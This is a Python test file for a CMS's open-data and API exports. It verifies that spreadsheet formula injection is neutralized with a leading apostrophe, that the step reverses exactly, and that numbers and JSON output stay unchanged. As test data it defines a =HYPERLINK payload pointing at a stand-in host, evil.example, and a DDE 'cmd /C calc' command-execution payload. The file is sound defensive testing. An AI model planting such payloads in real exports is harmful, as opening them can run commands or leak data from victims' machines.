"""CSV/XLSX formula injection is neutralized in every spreadsheet we write (issue 19, item 5).

OWASP "CSV Injection": a cell starting with ``=``, ``+``, ``-``, ``@``, tab or CR is run as a
formula by spreadsheets. ``neutralize_formula`` prefixes such text with ``'``; ``restore_formula``
undoes it exactly for importers of our own exports; numbers and the JSON stay exact.
"""
from __future__ import annotations

import csv
import decimal
import io
import re

import pytest
from hypothesis import given, strategies as st

from comun_cms import publishing
from comun_cms.extensions import db
from comun_cms.models import Page
from comun_cms.opendata import iter_csv, neutralize_formula, restore_formula
from comun_cms.hooktypes import Dataset, DatasetField
from comun_cms.tenancy import tenant_context
from comun_cms.testing import get_tenant

TITLE = '=HYPERLINK("http://evil.example/?x","Ver detalle")'
BODY = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize("value, expected", [
    (TITLE, "'" + TITLE), (BODY, "'" + BODY), ("+52 55 1234", "'+52 55 1234"), ("-1+cmd", "'-1+cmd"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("'=x", "''=x"), ("''@x", "'''@x"),
    ("Título normal", "Título normal"), ("a=b", "a=b"), ("'normal", "'normal"), ("", ""),
    ("-12.5", "-12.5"), ("+3", "+3"), ("1e3", "1e3"), ("-.5", "-.5"),
    (-3, -3), (2.5, 2.5), (decimal.Decimal("-1.50"), decimal.Decimal("-1.50")), (None, None), (True, True),
])
def test_neutralize_formula(value, expected):
    assert neutralize_formula(value) == expected


@given(st.text())
def test_restore_undoes_neutralize_exactly(text):
    assert restore_formula(neutralize_formula(text)) == text


@given(st.text())
def test_a_neutralized_text_never_starts_a_formula(text):
    out = neutralize_formula(text)
    assert out[:1] not in ("=", "+", "-", "@", "\t", "\r") or \
        re.fullmatch(r"[+-]?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?", out)


def test_open_data_csv_neutralizes_text_but_not_numbers_and_json_stays_exact():
    rows = [{"id": 7, "title": TITLE, "body": BODY, "score": -2.5, "tags": ["=x"], "note": "-4"}]
    ds = Dataset(name="prueba", title="Prueba", description="",
                 fields=tuple(DatasetField(n, t, "") for n, t in (("id", "integer"), ("title", "string"),
                                                                  ("body", "string"), ("score", "number"),
                                                                  ("tags", "string"), ("note", "string"))),
                 rows=lambda: rows)
    (row,) = csv.DictReader(io.StringIO("".join(iter_csv(ds)).lstrip("\ufeff"), newline=""))
    assert row == {"id": "7", "title": "'" + TITLE, "body": "'" + BODY, "score": "-2.5", "tags": '["=x"]',
                   "note": "-4"}


def test_api_csv_export_neutralizes_titles_and_the_json_export_keeps_them(app, client):
    with tenant_context(get_tenant(app, "hidalgo")):
        page = Page(slug="formula", title=TITLE, body=BODY)
        db.session.add(page)
        db.session.commit()
        publishing.publish(page)
    text = client.get("/api/v1/hidalgo/records.csv").data.decode("utf-8-sig")
    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    assert row["title"] == "'" + TITLE
    assert '"body":"@SUM' in row["content"]  # the content cell is a JSON object: it starts with "{"
    assert row["content"].startswith("{")
    data = client.get("/api/v1/hidalgo/records.json").get_json()
    assert data["records"][0]["title"] == TITLE and data["records"][0]["content"]["body"] == BODY
    dataset = client.get("/hidalgo/datos/pages.csv").data.decode("utf-8-sig")
    (row,) = csv.DictReader(io.StringIO(dataset, newline=""))
    assert row["title"] == "'" + TITLE
    assert client.get("/hidalgo/datos/pages.json").get_json()["records"][0]["title"] == TITLE
